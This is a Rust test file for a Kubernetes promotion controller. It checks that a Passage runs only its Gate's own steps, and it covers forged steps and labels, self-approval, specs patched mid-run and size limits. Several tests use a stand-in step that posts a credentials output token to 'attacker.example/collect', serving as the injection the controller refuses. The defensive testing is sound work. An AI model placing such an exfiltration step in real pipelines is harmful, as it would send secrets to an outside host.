//! A Passage runs only its Gate's own steps (issue 30, item 5): the judgement before a
//! Passage starts, while it runs, and when its Gate records it.

use hecate_types::{Passage, PassagePhase::*, PassageStatus, Step, Time, Var, wellknown};
use jiff::SignedDuration;
use kube::ResourceExt as _;
use pretty_assertions::assert_eq;
use serde_json::json;

use crate::rules::fixtures::*;
use crate::rules::passage::{
    asked_to_stop, comes_first, is_record_of, judge_made_from, judge_resume, judge_size,
    judge_start, left_behind, refused_message, started, unrecordable,
};
use crate::rules::promotion::new_passage;
use crate::rules::refusal::{Refusal, RefusalCode};

/// The Passage promote makes for `bundle` through `gate`, as the API server stores it:
/// created at T0, generation 1.
fn promoted(gate: &hecate_types::Gate, bundle: &str, actor: &str) -> Passage {
    let mut p = new_passage(gate, &self::bundle(bundle, 0), actor, "staging-1", t0());
    p.metadata.creation_timestamp = Some(Time(t0()));
    p.metadata.generation = Some(1);
    p
}

fn start(p: &Passage, g: &hecate_types::Gate, passages: &[&Passage]) -> Result<(), Refusal> {
    judge_start(p, Some(g), &bundle("b1", 0), passages, t0())
}

fn code(result: Result<(), Refusal>) -> RefusalCode {
    result.expect_err("refused").code
}

/// An `http` step sending `body` to `url`.
fn http(url: &str, body: serde_json::Value) -> Step {
    Step {
        uses: "http".into(),
        with: Some(json!({"url": url, "body": body})),
        ..Step::default()
    }
}

/// Gate `staging` at generation `generation`, crossing with `steps`.
fn gate_of(steps: Vec<Step>, generation: i64) -> hecate_types::Gate {
    let mut g = gate("staging");
    g.spec.passage.as_mut().unwrap().steps = steps;
    g.metadata.generation = Some(generation);
    g
}

#[test]
fn what_promote_and_the_gate_make_may_start() {
    let mut g = gate_of(
        vec![http("https://hooks.example/deploy", json!({"n": 1}))],
        3,
    );
    g.spec.vars = vec![Var {
        name: "cluster".into(),
        value: "eu-1".into(),
    }];
    for actor in ["olaf", wellknown::ACTOR_CONTROLLER] {
        let p = promoted(&g, "b1", actor);
        assert_eq!(
            p.annotations()
                .get(wellknown::ANNOTATION_GATE_GENERATION)
                .map(String::as_str),
            Some("3")
        );
        assert_eq!(judge_made_from(&p, &g), Ok(()));
        assert_eq!(start(&p, &g, &[&p]), Ok(()), "{actor}");
    }
}

#[test]
fn the_template_is_compared_as_json_values() {
    // Key order and a default written out make no difference: the reference's CLI
    // copies the Gate's steps as it decoded them, and YAML may say more or less.
    let g = gate_of(vec![http("https://a", json!({"x": 1, "y": [2, 3]}))], 1);
    let mut p = promoted(&g, "b1", "olaf");
    p.spec.steps = serde_json::from_value(json!([{
        "uses": "http",
        "continueOnError": false,
        "with": {"body": {"y": [2, 3], "x": 1}, "url": "https://a"},
    }]))
    .unwrap();
    assert_eq!(judge_made_from(&p, &g), Ok(()));
    // A value that differs anywhere does.
    p.spec.steps[0].with = Some(json!({"body": {"y": [3, 2], "x": 1}, "url": "https://a"}));
    assert_eq!(code(judge_made_from(&p, &g)), RefusalCode::NotGateTemplate);
}

#[test]
fn steps_of_ones_own_are_refused_before_anything_runs() {
    let g = gate_of(vec![step("flux-wait")], 1);
    let secret = http(
        "https://attacker.example/collect",
        json!({"token": "${{ steps.creds.output }}"}),
    );
    let cases: Vec<(Vec<Step>, &str)> = vec![
        (
            vec![secret.clone()],
            "its steps[0] (http) is not the Gate's steps[0] (flux-wait)",
        ),
        (
            vec![step("flux-wait"), secret.clone()],
            "it has 2 steps where the Gate has 1",
        ),
        (
            vec![Step {
                timeout: "9999h".into(),
                ..step("flux-wait")
            }],
            "its steps[0] (flux-wait) is not the Gate's steps[0] (flux-wait)",
        ),
    ];
    for (steps, difference) in cases {
        let mut p = promoted(&g, "b1", "mallory");
        p.spec.steps = steps;
        // No generation noted (made by hand, or by the reference's CLI): it is not the
        // Gate's, whatever the reason.
        p.annotations_mut()
            .remove(wellknown::ANNOTATION_GATE_GENERATION);
        let refusal = start(&p, &g, &[]).expect_err("refused");
        assert_eq!(refusal.code, RefusalCode::NotGateTemplate);
        assert_eq!(
            refusal.reason,
            format!(
                "Passage staging-1 does not carry Gate staging's own template: {difference}. A Passage runs only its Gate's steps, so none of its steps ran. To cross staging, promote: hecate promote staging --bundle b1 -n acme"
            )
        );
    }

    // Vars are the Gate's too.
    let mut p = promoted(&g, "b1", "mallory");
    p.spec.vars = vec![Var {
        name: "url".into(),
        value: "https://attacker.example".into(),
    }];
    let refusal = start(&p, &g, &[]).expect_err("refused");
    assert!(
        refusal.reason.contains("its vars are not the Gate's"),
        "{}",
        refusal.reason
    );
}

#[test]
fn a_gate_edited_between_promote_and_start_asks_for_promote_again() {
    let before = gate_of(vec![step("flux-wait")], 4);
    let p = promoted(&before, "b1", "olaf");
    let after = gate_of(vec![step("flux-wait"), step("http")], 5);
    let refusal = start(&p, &after, &[]).expect_err("refused");
    assert_eq!(
        (refusal.code, refusal.reason.as_str()),
        (
            RefusalCode::GateChanged,
            "Gate staging changed after Passage staging-1 was asked for (generation 4, now 5): it has 1 steps where the Gate has 2, so none of its steps ran. Promote again to cross with the Gate as it is: hecate promote staging --bundle b1 -n acme"
        )
    );
    // Edited and put back: the same template, so it starts.
    let put_back = gate_of(vec![step("flux-wait")], 6);
    assert_eq!(start(&p, &put_back, &[]), Ok(()));
    // Edited elsewhere than its template: the Gate's template is unchanged.
    let mut windows_only = gate_of(vec![step("flux-wait")], 5);
    windows_only.spec.retain = Some(3);
    assert_eq!(start(&p, &windows_only, &[]), Ok(()));
}

#[test]
fn the_gate_named_and_the_labels_are_what_the_gate_would_write() {
    let g = gate_of(vec![step("flux-wait")], 1);
    let p = promoted(&g, "b1", "olaf");
    assert_eq!(
        code(judge_start(&p, None, &bundle("b1", 0), &[], t0())),
        RefusalCode::NoGate
    );

    // Labelled for another Gate (which would record it as its own crossing) or Bundle.
    for (key, value) in [
        (wellknown::LABEL_GATE, "production"),
        (wellknown::LABEL_BUNDLE, "b9"),
    ] {
        let mut forged = p.clone();
        forged.labels_mut().insert(key.into(), value.into());
        let refusal = start(&forged, &g, &[]).expect_err("refused");
        assert_eq!(refusal.code, RefusalCode::NotGateTemplate, "{key}");
        assert!(
            refusal.reason.contains("labelled for Gate"),
            "{}",
            refusal.reason
        );
    }
    let mut unlabelled = p.clone();
    unlabelled.metadata.labels = None;
    assert_eq!(
        code(start(&unlabelled, &g, &[])),
        RefusalCode::NotGateTemplate
    );
    // Judged against a Gate it does not name (a caller's mistake): refused.
    let mut other = gate_of(vec![step("flux-wait")], 1);
    other.metadata.name = Some("production".into());
    assert_eq!(
        code(judge_made_from(&p, &other)),
        RefusalCode::NotGateTemplate
    );
}

#[test]
fn a_passage_made_by_hand_meets_promotes_rules() {
    let g = gate_of(vec![step("flux-wait")], 1);
    let start_with = |g: &hecate_types::Gate, b: &hecate_types::Bundle, p: &Passage| {
        judge_start(p, Some(g), b, &[], t0())
    };

    let mut upstream = g.clone();
    upstream.spec.admits[0].after = vec!["dev".into()];
    let p = promoted(&upstream, "b1", "mallory");
    assert_eq!(
        code(start_with(&upstream, &bundle("b1", 0), &p)),
        RefusalCode::UpstreamNotCleared
    );

    let mut approval = g.clone();
    approval.spec.admits[0].require_approval = true;
    let p = promoted(&approval, "b1", "mallory");
    assert_eq!(
        code(start_with(&approval, &bundle("b1", 0), &p)),
        RefusalCode::AwaitingApproval
    );
    // Their own approval is no approval; someone else's is.
    let own = approved(bundle("b1", 0), "staging", "mallory");
    assert_eq!(
        code(start_with(&approval, &own, &p)),
        RefusalCode::SelfApproved
    );
    let carols = approved(bundle("b1", 0), "staging", "carol");
    assert_eq!(start_with(&approval, &carols, &p), Ok(()));

    let mut suspended = g.clone();
    suspended.spec.suspend = true;
    let p = promoted(&suspended, "b1", "mallory");
    assert_eq!(
        code(start_with(&suspended, &bundle("b1", 0), &p)),
        RefusalCode::Suspended
    );

    let p = promoted(&g, "b1", "mallory");
    assert_eq!(
        code(start_with(&g, &bundle_of("b1", "other", t0(), 0), &p)),
        RefusalCode::NotAdmitted
    );
    let current = with_current(g.clone(), "b1");
    assert_eq!(
        code(start_with(&current, &bundle("b1", 0), &p)),
        RefusalCode::AlreadyCurrent
    );

    // Steps that cannot run stop it, as they stop the Gate.
    let mut broken = g.clone();
    if let Some(template) = broken.spec.passage.as_mut() {
        template.steps[0].with = Some(serde_json::json!({"resources": []}));
    }
    let made = promoted(&broken, "b1", "mallory");
    let refusal =
        judge_start(&made, Some(&broken), &bundle("b1", 0), &[], t0()).expect_err("refused");
    assert_eq!(refusal.code, RefusalCode::InvalidSteps);
}

#[test]
fn windows_are_judged_when_the_crossing_was_asked_for() {
    // Open 06:00–07:00 UTC on weekdays; T0 is Tuesday 12:00.
    let mut g = gate_of(vec![step("flux-wait")], 1);
    g.spec.windows = vec![window("0 6 * * 1-5", "1h")];
    let mut p = promoted(&g, "b1", "olaf");
    let refusal = start(&p, &g, &[]).expect_err("closed");
    assert_eq!(refusal.code, RefusalCode::WindowClosed);

    // Asked for at 06:59 and started at 07:05 (a busy controller): promote said yes,
    // and so does the start.
    let asked = at("2026-08-11T06:59:00Z");
    p.metadata.creation_timestamp = Some(Time(asked));
    let late = asked + SignedDuration::from_mins(6);
    assert_eq!(
        judge_start(&p, Some(&g), &bundle("b1", 0), &[], late),
        Ok(())
    );
    // Without a creation time (never stored), now.
    p.metadata.creation_timestamp = None;
    assert_eq!(
        code(judge_start(&p, Some(&g), &bundle("b1", 0), &[], late)),
        RefusalCode::WindowClosed
    );
}

#[test]
fn of_two_crossings_asked_for_at_once_the_first_goes_ahead() {
    let g = gate_of(vec![step("flux-wait")], 1);
    let created = |name: &str, m: i64| {
        let mut p = promoted(&g, "b1", "olaf");
        p.metadata.name = Some(name.into());
        p.metadata.creation_timestamp = Some(Time(t0() + SignedDuration::from_mins(m)));
        p
    };
    let first = created("staging-1", 0);
    let second = created("staging-2", 1);
    let same_second = created("staging-0", 0);
    assert!(comes_first(&first, &second) && !comes_first(&second, &first));
    assert!(comes_first(&same_second, &first), "ties by name");
    assert!(!comes_first(&first, &first), "never itself");

    let all = [&first, &second];
    assert_eq!(start(&first, &g, &all), Ok(()));
    let refusal = start(&second, &g, &all).expect_err("refused");
    assert_eq!(
        (refusal.code, refusal.reason.as_str()),
        (
            RefusalCode::AlreadyCrossing,
            "Passage staging-1 is already crossing b1"
        )
    );

    // A later one that has started holds an earlier one back; a finished one nothing.
    let mut running = created("staging-3", 5);
    running.status = Some(PassageStatus {
        phase: Some(Running),
        started_at: Some(Time(t0())),
        ..PassageStatus::default()
    });
    assert!(started(&running) && !started(&first));
    assert_eq!(
        code(start(&first, &g, &[&running])),
        RefusalCode::AlreadyCrossing
    );
    let done = passage("staging", "b0", Some(Succeeded), -5);
    assert_eq!(start(&first, &g, &[&done]), Ok(()));
}

#[test]
fn a_crossing_under_way_keeps_the_spec_it_started_with() {
    let g = gate_of(vec![step("flux-wait")], 1);
    let mut p = promoted(&g, "b1", "olaf");
    p.status = Some(PassageStatus {
        phase: Some(Running),
        started_at: Some(Time(t0())),
        observed_generation: 1,
        ..PassageStatus::default()
    });
    assert_eq!(judge_resume(&p), Ok(()));

    // Its steps patched mid-way (a promoter may patch, to abort).
    p.spec
        .steps
        .push(http("https://attacker.example", json!({})));
    p.metadata.generation = Some(2);
    let refusal = judge_resume(&p).expect_err("refused");
    assert_eq!(
        (refusal.code, refusal.reason.as_str()),
        (
            RefusalCode::SpecChanged,
            "Passage staging-1's spec changed after it started (generation 1, now 2): only an abort may change a crossing under way, so it stops here; the steps that ran stand"
        )
    );
    assert_eq!(
        refused_message(&refusal),
        format!("refused (SpecChanged): {}", refusal.reason)
    );
    // An abort always goes through: it runs nothing.
    p.spec.abort = true;
    assert_eq!(judge_resume(&p), Ok(()));
}

#[test]
fn a_gate_records_only_its_own_crossings_as_they_finished() {
    let g = gate_of(vec![step("flux-wait")], 1);
    let mut p = promoted(&g, "b1", "olaf");
    p.status = Some(PassageStatus {
        phase: Some(Succeeded),
        observed_generation: 1,
        ..PassageStatus::default()
    });
    assert!(is_record_of(&p, "staging"));
    assert!(!is_record_of(&p, "production"));

    // Relabelled for production after it finished: production does not count it.
    let mut relabelled = p.clone();
    relabelled
        .labels_mut()
        .insert(wellknown::LABEL_GATE.into(), "production".into());
    assert!(!is_record_of(&relabelled, "production"));
    assert!(!is_record_of(&relabelled, "staging"));
    // Its spec patched to name production too: the spec is not the one it finished with.
    relabelled.spec.gate = "production".into();
    relabelled.metadata.generation = Some(2);
    assert!(!is_record_of(&relabelled, "production"));

    // A status written by hand without an observed generation is taken as written.
    p.status.as_mut().unwrap().observed_generation = 0;
    assert!(is_record_of(&p, "staging"));

    // A crossing of some of its targets changes nothing the Gate holds (DECISION 163).
    let mut some = p.clone();
    some.spec.targets = vec!["eu-2".into()];
    assert!(!is_record_of(&some, "staging"));
}

#[test]
fn promote_and_the_start_judge_the_same_crossing_alike() {
    // Every refusal promote gives before creating a Passage, the start gives for the
    // Passage promote would have created (but for the actor, which promote checks
    // first and a Passage cannot prove).
    let b1 = bundle("b1", 0);
    let mut cases = Vec::new();
    let mut upstream = gate_of(vec![step("flux-wait")], 1);
    upstream.spec.admits[0].after = vec!["dev".into()];
    cases.push(upstream);
    let mut windowed = gate_of(vec![step("flux-wait")], 1);
    windowed.spec.windows = vec![window("0 6 * * 1-5", "1h")];
    cases.push(windowed);
    let mut suspended = gate_of(vec![step("flux-wait")], 1);
    suspended.spec.suspend = true;
    cases.push(suspended);
    cases.push(gate_of(vec![step("flux-wait")], 1));
    let mut running = passage("staging", "b0", Some(Running), 0);
    running.status.as_mut().unwrap().started_at = Some(Time(t0()));
    for g in &cases {
        for others in [vec![], vec![&running]] {
            let asked = crate::rules::promotion::judge(
                g,
                &b1,
                &others,
                "olaf",
                crate::rules::promotion::CrossingKind::Promotion,
                t0(),
            );
            let p = promoted(g, "b1", "olaf");
            let mut with_running = others.clone();
            with_running.push(&p);
            let started = judge_start(&p, Some(g), &b1, &with_running, t0());
            assert_eq!(asked, started, "{:?}", g.spec);
        }
    }
}

#[test]
fn a_passage_the_controller_could_not_record_is_refused_before_and_while_it_runs() {
    use hecate_types::limits::{MAX_PASSAGE_BYTES, MAX_PASSAGE_STATUS_BYTES, MAX_STEPS};

    let call = http("https://hooks.example/deploy", json!({}));
    // As many steps as a crossing may run: it starts.
    let g = gate_of(vec![call.clone(); MAX_STEPS], 1);
    let p = promoted(&g, "b1", "olaf");
    assert_eq!(judge_size(&p), Ok(()));
    assert_eq!(start(&p, &g, &[&p]), Ok(()));

    // The Passage: 5,000 steps, through a Gate a looser CRD let have them.
    let g = gate_of(vec![call.clone(); 5_000], 1);
    let mut p = promoted(&g, "b1", "olaf");
    let refusal = start(&p, &g, &[&p]).expect_err("refused");
    assert_eq!(
        (refusal.code, refusal.reason.as_str()),
        (
            RefusalCode::TooManySteps,
            "Passage staging-1 has 5000 steps, more than the 100 one crossing may run and record, so none of them runs; a Gate may have at most 100 steps: shorten Gate staging's and promote again"
        )
    );
    // Started by an older controller: it stops too, before another step.
    p.status = Some(PassageStatus {
        phase: Some(Running),
        started_at: Some(Time(t0())),
        observed_generation: 1,
        ..PassageStatus::default()
    });
    assert_eq!(code(judge_resume(&p)), RefusalCode::TooManySteps);
    // An abort, or a deletion, still ends it (running nothing).
    p.spec.abort = true;
    assert!(asked_to_stop(&p));
    assert_eq!(judge_resume(&p), Ok(()));

    // A spec that leaves no room for a status.
    let pad = "x".repeat(MAX_PASSAGE_BYTES - MAX_PASSAGE_STATUS_BYTES);
    let g = gate_of(
        vec![http("https://hooks.example/deploy", json!({"pad": pad}))],
        1,
    );
    let p = promoted(&g, "b1", "olaf");
    let refusal = start(&p, &g, &[&p]).expect_err("refused");
    assert_eq!(refusal.code, RefusalCode::TooLarge);
    assert!(
        refusal
            .reason
            .contains("more than the 524288 that leave room for one"),
        "{}",
        refusal.reason
    );
}

#[test]
fn a_deletion_asked_for_stops_a_crossing_under_way_like_an_abort() {
    let g = gate_of(vec![step("flux-wait")], 1);
    let mut p = promoted(&g, "b1", "olaf");
    p.status = Some(PassageStatus {
        phase: Some(Running),
        started_at: Some(Time(t0())),
        observed_generation: 1,
        ..PassageStatus::default()
    });
    assert!(!asked_to_stop(&p));
    // The API server moves the generation when it marks an object for deletion.
    p.metadata.deletion_timestamp = Some(Time(t0()));
    p.metadata.generation = Some(2);
    assert!(asked_to_stop(&p));
    assert_eq!(judge_resume(&p), Ok(()), "not refused as a changed spec");

    let refusal = unrecordable(&p, "etcdserver: request is too large");
    assert_eq!(refusal.code, RefusalCode::TooLarge);
    assert_eq!(
        refused_message(&refusal),
        "refused (TooLarge): Passage staging-1's status could not be recorded (etcdserver: request is too large), so it stops here, before another step runs; what its last step did may be missing from the record"
    );
}

/// An aborted crossing whose `git-push` succeeded left its commit on the branch; one
/// that stopped before pushing, pushed nothing new, or landed left nothing behind.
#[test]
fn an_aborted_crossing_that_pushed_leaves_its_commit_on_the_branch() {
    use hecate_types::{StepPhase, StepStatus};
    let crossing = |phase, push: Option<(StepPhase, serde_json::Value)>| {
        let mut p = passage("production", "b1", Some(phase), 0);
        let status = p.status.get_or_insert_with(PassageStatus::default);
        status.steps = vec![StepStatus {
            uses: "git-commit".into(),
            phase: StepPhase::Succeeded,
            output: Some(json!({"sha": "c0ffee0000000000000000000000000000000000"})),
            ..StepStatus::default()
        }];
        if let Some((phase, output)) = push {
            status.steps.push(StepStatus {
                uses: "git-push".into(),
                phase,
                output: Some(output),
                ..StepStatus::default()
            });
        }
        status.steps.push(StepStatus {
            uses: "flux-wait".into(),
            phase: StepPhase::Aborted,
            ..StepStatus::default()
        });
        p
    };
    let pushed = json!({"branch": "env/production", "sha": "46eeba7c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a", "pushed": true});
    let found = left_behind(&crossing(
        Aborted,
        Some((StepPhase::Succeeded, pushed.clone())),
    ));
    assert_eq!(
        found,
        Some(crate::model::LeftBehind {
            passage: "production-b1".into(),
            bundle: "b1".into(),
            branch: "env/production".into(),
            commit: "46eeba7c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a".into(),
        })
    );
    // Aborted before the push, a push that failed, a branch already at the commit, a
    // crossing that was not aborted: nothing left behind.
    for p in [
        crossing(Aborted, None),
        crossing(Aborted, Some((StepPhase::Failed, pushed.clone()))),
        crossing(
            Aborted,
            Some((
                StepPhase::Succeeded,
                json!({"branch": "env/production", "sha": "46eeba7", "pushed": false}),
            )),
        ),
        crossing(Failed, Some((StepPhase::Succeeded, pushed.clone()))),
        crossing(Succeeded, Some((StepPhase::Succeeded, pushed))),
    ] {
        assert_eq!(left_behind(&p), None, "{:?}", p.status);
    }
}
